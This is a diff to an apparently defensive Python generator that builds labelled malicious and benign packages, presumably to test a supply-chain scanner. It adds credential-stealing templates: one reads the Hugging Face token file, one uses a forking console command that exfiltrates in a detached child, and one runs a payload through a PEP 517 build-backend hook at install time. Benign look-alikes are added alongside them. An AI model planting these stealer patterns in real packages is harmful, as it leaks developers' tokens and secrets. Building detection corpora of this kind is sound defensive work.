@@ -39,6 +39,7 @@ SOURCES: dict[str, tuple[str, str]] = {
     ),
     "sa-token": ("", "open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()"),
     "index-token": ("import os", "os.environ.get('TWINE_PASSWORD', '')"),
+    "tool-token": ("import os", "open(os.path.expanduser('~/.cache/huggingface/token')).read()"),
 }
 SINKS: dict[str, tuple[str, str]] = {
     # name -> (imports, body of `def _send(data):`)
@@ -65,7 +66,21 @@ SINKS: dict[str, tuple[str, str]] = {
     ),
     "query-string": ("import requests", "requests.get(_URL + '?q=' + str(data))"),
 }
-TRIGGERS = ("module", "atexit", "thread", "monkey-patch", "pytest-hook", "setup-install", "split")
+TRIGGERS = (
+    "module",
+    "atexit",
+    "thread",
+    "monkey-patch",
+    "pytest-hook",
+    "setup-install",
+    "split",
+    "console-fork",
+    "build-backend",
+)
+_BACKEND_TOML = (
+    "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n"
+)
+_CONSOLE = "[console_scripts]\n{pkg}-cli = {pkg}.cli:main\n"
 ENCODINGS = ("plain", "computed-url", "getattr", "partial", "b64-exec")
 RUNNERS = (
     "dropper",
@@ -150,6 +165,22 @@ def _stealer(source: str, sink: str, trigger: str, encoding: str, pkg: str) -> d
         )
     elif trigger == "pytest-hook":
         body += f"def pytest_configure(config):\n    {call}\n"
+    elif trigger == "console-fork":
+        # the command's main() forks: the parent returns, the child sends unseen
+        return {
+            f"{pkg}/__init__.py": "",
+            f"{pkg}/cli.py": "import os\n" + body + "def main():\n    if os.fork():\n"
+            f"        return 0\n    os.setsid()\n    {call}\n",
+        }
+    elif trigger == "build-backend":
+        # an in-tree PEP 517 backend: pip calls the hook while building the sdist
+        return {
+            "pyproject.toml": _BACKEND_TOML,
+            "_build/backend.py": body
+            + f"def get_requires_for_build_wheel(config_settings=None):\n    {call}\n"
+            "    return []\n",
+            f"{pkg}/__init__.py": "",
+        }
     elif trigger == "setup-install":
         return {
             "setup.py": "from setuptools import setup\nfrom setuptools.command.install import "
@@ -233,6 +264,19 @@ def _runner(kind: str, trigger: str, encoding: str, pkg: str) -> dict[str, str]:
         )
     elif trigger == "pytest-hook":
         body += "def pytest_sessionstart(session):\n    _go()\n"
+    elif trigger == "console-fork":
+        return {
+            f"{pkg}/__init__.py": "",
+            f"{pkg}/cli.py": body + "def main():\n    import os\n    if os.fork():\n"
+            "        return 0\n    os.setsid()\n    _go()\n",
+        }
+    elif trigger == "build-backend":
+        return {
+            "pyproject.toml": _BACKEND_TOML,
+            "_build/backend.py": body + "def prepare_metadata_for_build_wheel(d, config_settings="
+            "None):\n    _go()\n    return 'x.dist-info'\n",
+            f"{pkg}/__init__.py": "",
+        }
     elif trigger == "setup-install":
         return {
             "setup.py": "from setuptools import setup\n" + body + "_go()\nsetup(name='x')\n",
@@ -252,6 +296,14 @@ def _evasion(**moved: str) -> str:
     return "+".join(parts) or "none"
 
 
+def _entry_points(trigger: str, pkg: str) -> str:
+    if trigger == "pytest-hook":
+        return "[pytest11]\nx = " + pkg + "\n"
+    if trigger == "console-fork":
+        return _CONSOLE.format(pkg=pkg)
+    return ""
+
+
 def malicious() -> Iterator[Variant]:
     """Stealers over source x sink x trigger (plus encodings on the default road), and
     runners over trigger x encoding, each as a wheel or an sdist."""
@@ -263,8 +315,8 @@ def malicious() -> Iterator[Variant]:
     for so, si, tr, enc in combos:
         n += 1
         pkg = f"stealer{n}"
-        packaging = "sdist" if tr == "setup-install" or n % 3 == 0 else "wheel"
-        eps = "[pytest11]\nx = " + pkg + "\n" if tr == "pytest-hook" else ""
+        packaging = "sdist" if tr in ("setup-install", "build-backend") or n % 3 == 0 else "wheel"
+        eps = _entry_points(tr, pkg)
         yield Variant(
             "stealer",
             _evasion(source=so, sink=si, trigger=tr, encoding=enc),
@@ -281,8 +333,12 @@ def malicious() -> Iterator[Variant]:
                     continue
                 n += 1
                 pkg = f"runner{n}"
-                packaging = "sdist" if tr == "setup-install" else ("wheel" if n % 2 else "sdist")
-                eps = "[pytest11]\nx = " + pkg + "\n" if tr == "pytest-hook" else ""
+                packaging = (
+                    "sdist"
+                    if tr in ("setup-install", "build-backend")
+                    else ("wheel" if n % 2 else "sdist")
+                )
+                eps = _entry_points(tr, pkg)
                 yield Variant(
                     kind,
                     _evasion(trigger=tr, encoding=enc),
@@ -366,6 +422,12 @@ def benign() -> Iterator[Variant]:
         "webhook_url, json={'content': text})\n",
         "site-lister": "import os, site\ndef pth_files():\n    return [n for d in site."
         "getsitepackages() for n in os.listdir(d) if n.endswith('.pth')]\n",
+        "daemon-cli": "import os, sys, http.server\ndef main():\n    if os.fork():\n"
+        "        sys.exit(0)\n    os.setsid()\n    http.server.ThreadingHTTPServer(('127.0.0.1',"
+        " 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
+        "token-cli": "import os, requests\ndef main():\n    t = open(os.path.expanduser("
+        "'~/.cache/huggingface/token')).read().strip()\n    print(requests.get('https://"
+        "huggingface.co/api/whoami-v2', headers={'authorization': 'Bearer ' + t}).json())\n",
     }
     for kind, code in housekeeping.items():
         for packaging in ("wheel", "sdist"):
@@ -380,7 +442,26 @@ def benign() -> Iterator[Variant]:
                 if kind == "version-exec":
                     files[f"{pkg}/_version.py"] = "__version__ = '1.0'\n"
                 eps = "[pytest11]\nx = " + pkg + "\n" if kind == "pytest-markers" else ""
+                if kind in ("daemon-cli", "token-cli"):
+                    eps = f"[console_scripts]\n{pkg} = {pkg}:main\n"
                 yield Variant(kind, "split" if split else "none", False, packaging, pkg, files, eps)
+    backend = (
+        "import os, subprocess, sys\n"
+        "def get_requires_for_build_wheel(config_settings=None):\n    return ['cython']\n"
+        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
+        "    subprocess.run([sys.executable, '-m', 'setuptools_build', wheel_directory],"
+        " check=True)\n    return os.listdir(wheel_directory)[0]\n"
+    )
+    for split in (False, True):
+        n += 1
+        pkg = f"tool{n}"
+        files = {"pyproject.toml": _BACKEND_TOML, f"{pkg}/__init__.py": ""}
+        if split:
+            files["_build/backend.py"] = "from ._impl import *\n"
+            files["_build/_impl.py"] = backend
+        else:
+            files["_build/backend.py"] = backend
+        yield Variant("in-tree-backend", "split" if split else "none", False, "sdist", pkg, files)
 
 
 def build(v: Variant) -> tuple[str, bytes]:
